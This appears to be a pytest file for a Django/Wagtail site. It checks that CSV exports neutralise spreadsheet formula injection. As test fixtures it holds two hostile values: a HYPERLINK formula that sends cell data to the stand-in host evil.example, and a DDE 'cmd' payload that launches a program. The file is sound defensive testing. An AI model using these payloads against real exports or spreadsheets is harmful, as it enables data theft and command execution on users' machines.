"""Every CSV the platform writes is opened by spreadsheets as data, never run as formulas."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone

from mailing.models import Subscriber
from pages.csvsafe import FORMULA_STARTS, csv_writer
from tests.factories.pages import StandardPageFactory

pytestmark = pytest.mark.django_db

HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE_EMAIL = "=cmd|'/C calc'!A0@example.org"


def unneutralised_cells(text: str) -> list[str]:
    rows = list(csv.reader(io.StringIO(text)))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def exported(client, url: str) -> str:
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    return b"".join(response.streaming_content).decode()


@pytest.fixture
def admin_client(client, home_page):
    admin = get_user_model().objects.create_superuser(
        "root", "root@example.org", "a-long-test-password"
    )
    client.force_login(admin)
    page = home_page.add_child(instance=StandardPageFactory.build(title=HOSTILE_TITLE))
    page.save_revision(user=admin).publish(user=admin)
    page.locked, page.locked_by, page.locked_at = True, admin, timezone.now()
    page.save()
    return client


def test_subscriber_export_neutralises_a_formula_address(admin_client):
    Subscriber.objects.create(email=HOSTILE_EMAIL, status="confirmed", consent_source="@SUM(1)")
    text = exported(admin_client, "/admin/mailing/subscriber/")
    assert "'" + HOSTILE_EMAIL.lower() in cells(text)
    assert unneutralised_cells(text) == []


@pytest.mark.parametrize(
    "report", ["site-history", "aging-pages", "locked", "workflow", "workflow_tasks"]
)
def test_wagtail_reports_neutralise_a_formula_page_title(admin_client, report):
    text = exported(admin_client, f"/admin/reports/{report}/")
    if report in ("site-history", "locked"):
        assert any(cell.startswith("'" + HOSTILE_TITLE) for cell in cells(text)), text
    assert unneutralised_cells(text) == []


def test_csv_writer_prefixes_every_formula_start_and_leaves_other_cells():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "plain", 5, -5, "a=b"])
    [row] = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row == ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "plain", "5", "-5", "a=b"]
